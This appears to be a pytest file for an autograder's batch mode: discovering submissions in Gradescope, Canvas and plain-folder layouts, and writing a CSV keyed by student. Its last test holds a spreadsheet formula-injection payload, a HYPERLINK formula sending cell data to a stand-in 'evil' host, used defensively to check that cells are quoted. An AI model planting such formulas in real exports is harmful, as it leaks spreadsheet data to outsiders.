"""Which submissions a batch grades and whose they are (checks.grader.batch), and the class CSV it gives.

Discovery tests read names only (milliseconds). One end-to-end test grades a
Gradescope export of 5 students (the reference as a one-file submission,
one mutant, one group submission, one student without a SID, one folder
with two files and a rubric naming one) on the softmax group only.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

from checks import registry
from checks.cli import main as cli_main
from checks.grader import batch, refsub
from checks.grader.batch import BatchError, discover

SUBS = Path(__file__).parent.parent / "submissions"
WRONG_SOFTMAX = (SUBS / "wrong_softmax.py").read_text()

# Gradescope's "Export submissions": submission_metadata.yml maps each submission_<id> folder to its
# submitters (a Ruby-symbol-keyed YAML mapping, as Gradescope writes it), with dates and scores
METADATA = """\
submission_1001:
  :submitters:
  - :name: Ada Lovelace
    :sid: '100'
    :email: ada@example.edu
  :created_at: 2026-09-20 19:22:01.123456000 -07:00
  :score: 0.0
  :history: []
submission_1002:
  :submitters:
  - :name: Alan Turing
    :sid: '101'
    :email: alan@example.edu
  :created_at: 2026-09-21 08:02:11.000000000 -07:00
  :score: 0.0
  :history:
  - :created_at: 2026-09-20 23:59:59.000000000 -07:00
    :score: 0.0
submission_1003:
  :submitters:
  - :name: Grace Hopper
    :sid: '102'
    :email: grace@example.edu
  - :name: Edsger Dijkstra
    :sid: '103'
    :email: edsger@example.edu
  :created_at: 2026-09-21 10:00:00.000000000 -07:00
  :score: 0.0
submission_1004:
  :submitters:
  - :name: Barbara Liskov
    :email: barbara@example.edu
  :created_at: 2026-09-21 11:00:00.000000000 -07:00
  :score: 0.0
submission_1005:
  :submitters:
  - :name: Donald Knuth
    :sid: 105
    :email: knuth@example.edu
  :created_at: 2026-09-21 12:00:00.000000000 -07:00
  :score: 0.0
"""


def _gradescope_export(root: Path, ref: str) -> Path:
    exp = root / "assignment_4242_export"
    exp.mkdir()
    (exp / "submission_metadata.yml").write_text(METADATA)
    files = {
        "submission_1001": {"submission.py": ref},
        "submission_1002": {"submission.py": ref + "\n\n" + WRONG_SOFTMAX},   # the mutant: softmax only
        "submission_1003": {"submission.py": ref},
        "submission_1004": {"submission.py": "def softmax(z:\n"},              # a syntax error
        "submission_1005": {"submission.py": ref, "helper.py": "X = 1\n"},      # two files: the rubric names one
    }
    for folder, content in files.items():
        (exp / folder).mkdir()
        for name, text in content.items():
            (exp / folder / name).write_text(text)
    return exp


# --------------------------------------------------------------------------
# discovery (names only)
# --------------------------------------------------------------------------

def test_gradescope_export_identities_and_keys(tmp_path):
    exp = _gradescope_export(tmp_path, "X = 1\n")
    (exp / "__MACOSX").mkdir()
    subs = discover([str(exp)], "submission.py")
    assert [s.kind for s in subs] == ["gradescope"] * 5
    by = {s.key: s for s in subs}
    assert list(by) == ["100", "101", "102+103", "Barbara Liskov", "105"]
    assert by["100"].student == {"student": "100", "name": "Ada Lovelace", "sid": "100", "email": "ada@example.edu",
                                 "submission_id": "1001"}
    grp = by["102+103"].student
    assert grp["name"] == "Grace Hopper; Edsger Dijkstra" and grp["sid"] == "102; 103"
    assert "sid" not in by["Barbara Liskov"].student  # no SID: keyed by the name
    assert by["105"].student["sid"] == "105"  # an unquoted SID (an int in YAML) is text
    assert by["105"].path.endswith(os.path.join("submission_1005", "submission.py"))
    assert by["105"].where == "submission_1005/submission.py"
    # without the rubric's file name the folder with two files is a status, not a guess
    amb = {s.key: s for s in discover([str(exp)])}["105"]
    assert amb.path == "" and amb.problem.startswith("several candidate files: helper.py, submission.py; "
                                                     "name one in the rubric: [submission] file = ")


def test_gradescope_export_odd_folders(tmp_path):
    exp = _gradescope_export(tmp_path, "X = 1\n")
    (exp / "submission_1003" / "submission.py").unlink()
    (exp / "submission_1003" / "sub").mkdir()
    (exp / "submission_1003" / "sub" / "hw.ipynb").write_text("{}")  # a notebook one folder down
    os.rename(exp / "submission_1004", exp / "submission_9999")        # listed without its folder / unlisted
    by = {s.key: s for s in discover([str(exp)], "submission.py")}
    assert by["102+103"].where == "submission_1003/sub/hw.ipynb" and "no file is named submission.py" in by["102+103"].note
    assert by["Barbara Liskov"].problem == "the export lists submission_1004 but has no such folder"
    assert by["submission_9999"].student == {"student": "submission_9999"}
    assert "does not list this folder" in by["submission_9999"].note


@pytest.mark.parametrize("text, needle", [
    ("submission_1: [", "not valid YAML at line"),
    ("- a\n- b\n", "expected a mapping of submission_<id> folders"),
    ("submission_1: 3\n", "'submission_1' must map to its :submitters: list"),
    ("submission_1:\n  :submitters: nobody\n", ":submitters: must be a list"),
])
def test_a_bad_metadata_file_is_one_clear_error(tmp_path, text, needle, capsys):
    (tmp_path / "submission_metadata.yml").write_text(text)
    with pytest.raises(BatchError, match="submission_metadata.yml") as e:
        discover([str(tmp_path)])
    assert needle in str(e.value)
    assert cli_main(["grade", str(tmp_path), "--out", str(tmp_path / "g.csv")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and needle in err and "Traceback" not in err


def test_canvas_names(tmp_path):
    d = tmp_path / "canvas"
    d.mkdir()
    for n in ("lovelaceada_12345_67890_hw1.py", "turingalan_LATE_23456_78901_hw1-1.py",
              "knuthdonald_34567_89012_hw1.py", "knuthdonald_34567_89013_notes.py",
              "hopper_45678_90123_a.py", "hopper_45678_90124_b.ipynb"):
        (d / n).write_text("X = 1\n")
    subs = discover([str(d)], "hw1.py")
    by = {s.key: s for s in subs}
    assert [s.kind for s in subs] == ["canvas"] * 4
    assert by["12345"].student == {"student": "12345", "name": "lovelaceada", "user_id": "12345"}
    assert by["23456"].student["late"] == "yes"
    assert by["23456"].where == "turingalan_LATE_23456_78901_hw1-1.py"  # Canvas' re-submission suffix
    assert by["34567"].where == "knuthdonald_34567_89012_hw1.py"         # the rubric's file among two
    assert "several" not in (by["45678"].problem or "") and "no file named hw1.py" in by["45678"].problem
    no_rubric = {s.key: s for s in discover([str(d)])}
    assert no_rubric["12345"].path and no_rubric["34567"].problem.startswith("several candidate files")
    # one file not named the Canvas way: the folder is a plain flat folder again
    (d / "stray.py").write_text("X = 1\n")
    assert {s.kind for s in discover([str(d)])} == {"file"}


def test_plain_student_folders_with_the_same_file_name(tmp_path):
    for who in ("alice", "bob", "carol"):
        (tmp_path / who).mkdir()
        (tmp_path / who / "submission.py").write_text("X = 1\n")
    (tmp_path / "bob" / "other.py").write_text("Y = 2\n")
    (tmp_path / "dave").mkdir()
    (tmp_path / ".git").mkdir()
    subs = discover([str(tmp_path)])
    by = {s.key: s for s in subs}
    assert list(by) == ["alice", "bob", "carol", "dave"]
    assert by["alice"].where == "alice/submission.py" and by["alice"].student == {"student": "alice"}
    assert by["bob"].problem.startswith("several candidate files: other.py, submission.py")
    assert by["dave"].problem == "no .py or .ipynb file in the folder"
    assert discover([str(tmp_path)], "submission.py")[1].where == "bob/submission.py"


def test_flat_folders_keep_todays_rows(tmp_path):
    (tmp_path / "a.py").write_text("X = 1\n")
    (tmp_path / "b.ipynb").write_text("{}")
    (tmp_path / "x.py").mkdir()            # a directory named .py: a row (the grader says what it is)
    (tmp_path / "notes.txt").write_text("")
    os.symlink("a.py", tmp_path / "link.py")
    bad = os.path.join(os.fsencode(tmp_path), b"bad\xffname.py")
    open(bad, "wb").close()
    subs = discover([str(tmp_path)])
    assert [s.key for s in subs] == ["a.py", "b.ipynb", "bad\\xffname.py", "link.py", "x.py"]
    assert all(s.kind == "file" and s.student == {"student": s.key} for s in subs)
    assert os.fsencode(subs[2].path) == bad  # the bytes of the name, as the file system has them
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(BatchError, match="holds no .py file"):
        discover([str(empty)])
    with pytest.raises(BatchError, match="no such file or directory"):
        discover([str(tmp_path / "missing.py")])
    # the same plain file name from two folders: refused by the CLI with --out (rows would differ by a hash)
    other = tmp_path / "other"
    other.mkdir()
    (other / "a.py").write_text("X = 1\n")
    assert batch.duplicate_file_names(discover([str(tmp_path / "a.py"), str(other / "a.py")])) == ["a.py"]


# --------------------------------------------------------------------------
# end to end: the Gradescope export graded into an identity-keyed CSV
# --------------------------------------------------------------------------

def test_gradescope_export_grades_to_a_csv_keyed_by_student(tmp_path, capsys):
    exp = _gradescope_export(tmp_path, refsub.build())
    rubric = tmp_path / "rubric.toml"
    rubric.write_text('[submission]\nfile = "submission.py"\n\n[visibility]\ndefault = "after_due_date"\n'
                      '"softmax.softmax" = "visible"\n')
    out, jd = tmp_path / "grades.csv", tmp_path / "json"
    rc = cli_main(["grade", str(exp), "--out", str(out), "--json-dir", str(jd), "--group", "softmax",
                   "--rubric", str(rubric), "--jobs", "2", "--isolation", "require=none"])
    cap = capsys.readouterr()
    assert rc == 0, cap.err
    ids = [f.id for f in registry.select(group="softmax")]
    with open(out, newline="", encoding="utf-8") as fh:
        header = next(csv.reader(fh))
    assert header[:6] == ["student", "name", "sid", "email", "submission_id", "submission"]
    assert header[6:9 + 2 * len(ids)] == ["status", *(["total", "max_total", *ids, *[f"{i}:verdict" for i in ids]])]
    assert header[7:9 + 2 * len(ids)] == ["total", "max_total", *ids, *[f"{i}:verdict" for i in ids]]
    rows = {r["student"]: r for r in csv.DictReader(open(out, newline="", encoding="utf-8"))}
    assert list(rows) == ["100", "101", "102+103", "Barbara Liskov", "105"]
    full = sum(registry.get(i).points for i in ids)
    for key in ("100", "102+103", "105"):
        assert rows[key]["status"] == "ok" and float(rows[key]["total"]) == full, rows[key]
        assert all(rows[key][f"{i}:verdict"] == "passed" for i in ids)
    mutant = rows["101"]
    lost = [i for i in ids if mutant[f"{i}:verdict"] != "passed"]
    assert lost == ["softmax.softmax"], mutant  # exactly its formula
    assert float(mutant["softmax.softmax"]) == 0 and float(mutant["total"]) == full - registry.get("softmax.softmax").points
    assert mutant["name"] == "Alan Turing" and mutant["email"] == "alan@example.edu"
    assert mutant["submission"] == "submission_1002/submission.py" and mutant["file"] == "submission.py"
    assert rows["Barbara Liskov"]["status"] == "syntax error" and rows["Barbara Liskov"]["sid"] == ""
    # one results.json per student, named by the key, with who it is and the rubric's visibility
    assert sorted(os.listdir(jd)) == sorted(f"{k}.json" for k in rows)
    doc = json.loads((jd / "101.json").read_text())
    assert doc["extra_data"]["student"]["name"] == "Alan Turing"
    vis = {t["name"]: t["visibility"] for t in doc["tests"]}
    assert vis["softmax.softmax"] == "visible" and {vis[i] for i in ids[1:]} == {"after_due_date"}
    assert doc["visibility"] == "after_due_date"
    bad = {t["name"]: t for t in doc["tests"]}["softmax.softmax"]
    assert bad["status"] == "failed" and bad["extra_data"]["verdict"] == "nan/inf"
    assert "```python\nsoftmax(np.array(" in bad["output"]
    # the class summary at the end of the batch
    assert "Class summary" in cap.out and "Barbara Liskov" in cap.out


def test_the_csv_never_holds_a_formula_a_spreadsheet_would_run():
    """Names, folders, file names and messages come from students: a leading =, +, -, @ is quoted."""
    from checks.core.verdicts import Status
    from checks.grader.grade import SubmissionResult
    from checks.grader.report import csv_text

    evil = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
    rs = [SubmissionResult(f"{evil}.py", f"/x/{evil}.py", status=Status.SYNTAX_ERROR, message="+1 unexpected",
                           student={"name": "@SUM(A1:A9)", "sid": "-2+3", "email": "ada@example.edu"}),
          SubmissionResult("plain.py", "/x/plain.py", status=Status.SYNTAX_ERROR, message="line 2: invalid syntax",
                           student={"name": "Ada Lovelace", "sid": "100"})]
    rows = list(csv.DictReader(csv_text(rs, ["softmax.softmax"], where=[f"{evil}/submission.py", "sub_2/plain.py"]).splitlines()))
    first = rows[0]
    for col in ("student", "name", "sid", "submission", "message", "file"):
        assert first[col][:1] == "'", (col, first[col])
    assert first["name"] == "'@SUM(A1:A9)" and first["file"] == f"'{evil}.py" and first["message"] == "'+1 unexpected"
    # the text stays readable, and harmless cells are untouched
    assert rows[1]["name"] == "Ada Lovelace" and rows[1]["student"] == "plain.py" and rows[1]["file"] == "plain.py"
    assert rows[1]["message"] == "line 2: invalid syntax"
